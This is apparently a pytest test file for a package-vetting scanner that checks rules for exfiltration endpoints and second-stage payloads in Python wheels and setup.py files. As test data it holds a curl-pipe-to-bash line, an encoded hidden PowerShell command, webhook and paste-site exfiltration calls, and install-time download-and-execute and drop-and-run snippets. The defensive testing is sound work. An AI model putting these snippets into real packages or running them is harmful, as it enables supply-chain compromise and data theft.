"""Exfiltration endpoints and second stages, with benign counterparts."""

import pytest

from assay.advisories.severity import Level
from tests.vetting.package_builder import rules, vet_sdist, vet_wheel


@pytest.mark.parametrize(
    ("rule", "text"),
    [
        ("exfil-webhook", "https://discord.com/api/webhooks/123/abc"),
        ("exfil-webhook", "https://api.telegram.org/bot123:abc/sendMessage"),
        ("exfil-paste-site", "https://pastebin.com/raw/abcd"),
        ("exfil-tunnel-host", "https://abcd-1-2.ngrok-free.app/x"),
        ("exfil-raw-ip", "http://203.0.113.7:8080/upload"),
        ("second-stage-shell-fetch", "curl -s https://example.invalid/x.sh | bash"),
        ("second-stage-shell-fetch", "powershell -w hidden -enc SQBFAFgA"),
    ],
)
def test_endpoint_patterns(rule, text):
    code = f"import requests\n\ndef send(data):\n    requests.post({text!r}, data=data)\n"
    assert rule in rules(vet_wheel({"demo/net.py": code}))
    setup = f"from setuptools import setup\nURL = {text!r}\nsetup(name='demo')\n"
    finding = next(f for f in vet_sdist({"setup.py": setup}).findings if f.rule == rule)
    assert finding.where == "install"


@pytest.mark.parametrize(
    "text",
    [
        "https://discord.com/invite/demo",  # a community link
        "http://127.0.0.1:8000/",
        "http://192.168.1.10/",
        "https://docs.example.org/tunnelling.html",
        "pip install demo  # or: curl -O https://example.invalid/demo.tar.gz",
    ],
)
def test_benign_urls(text):
    code = f"HELP = {text!r}\n"
    report = vet_wheel({"demo/help.py": code})
    assert not {r for r in rules(report) if r.startswith(("exfil-", "second-stage-"))}


def test_download_then_execute_in_one_function():
    code = (
        "import os, subprocess, urllib.request\n\n"
        "def update(url, path):\n"
        "    urllib.request.urlretrieve(url, path)\n"
        "    os.chmod(path, 0o755)\n"
        "    subprocess.Popen([path])\n"
    )
    finding = next(
        f
        for f in vet_wheel({"demo/u.py": code}).findings
        if f.rule == "second-stage-download-execute"
    )
    assert finding.severity == Level.MEDIUM  # an updater: no program file named
    fetch_and_run = (
        "import subprocess, requests\n\n"
        "def sync(url, cmd):\n"
        "    requests.get(url)\n"
        "    subprocess.run(cmd)\n"
    )
    finding = next(
        f
        for f in vet_wheel({"demo/u.py": fetch_and_run}).findings
        if f.rule == "second-stage-download-execute"
    )
    assert finding.severity == Level.MEDIUM  # nothing written: a tool calling a command
    setup = code + "\nupdate(URL, '/tmp/x')\n"
    report = vet_sdist({"setup.py": setup})
    finding = next(f for f in report.findings if f.rule == "second-stage-download-execute")
    assert finding.severity == Level.CRITICAL


def test_download_and_execute_in_separate_functions_is_not_combined():
    code = (
        "import subprocess, urllib.request\n\n"
        "def fetch(url):\n    return urllib.request.urlopen(url).read()\n\n"
        "def build(cmd):\n    subprocess.run(cmd)\n"
    )
    assert "second-stage-download-execute" not in rules(vet_wheel({"demo/tools.py": code}))


def test_exec_of_downloaded_code():
    code = "import urllib.request\nexec(urllib.request.urlopen(URL).read())\n"
    report = vet_wheel({"demo/__init__.py": code})
    finding = next(f for f in report.findings if f.rule == "second-stage-download-execute")
    assert finding.severity == Level.HIGH
    assert finding.where == "import"


def test_temporary_file_run_with_the_interpreter():
    setup = (
        "import os, sys, tempfile\n"
        "from setuptools import setup\n"
        "handle = tempfile.NamedTemporaryFile('w', suffix='.py', delete=False)\n"
        "handle.write(CODE)\n"
        "handle.close()\n"
        "os.system(sys.executable + ' ' + handle.name)\n"
        "setup(name='demo')\n"
    )
    report = vet_sdist({"setup.py": setup})
    assert "second-stage-drop-run" in rules(report, Level.HIGH)
    assert report.flagged
    compiler_check = (
        "import subprocess, tempfile\n"
        "from setuptools import setup\n"
        "handle = tempfile.NamedTemporaryFile('w', suffix='.c', delete=False)\n"
        "handle.write('int main(void) { return 0; }')\n"
        "subprocess.call([CC, handle.name])\n"
        "setup(name='demo')\n"
    )
    assert "second-stage-drop-run" not in rules(vet_sdist({"setup.py": compiler_check}))
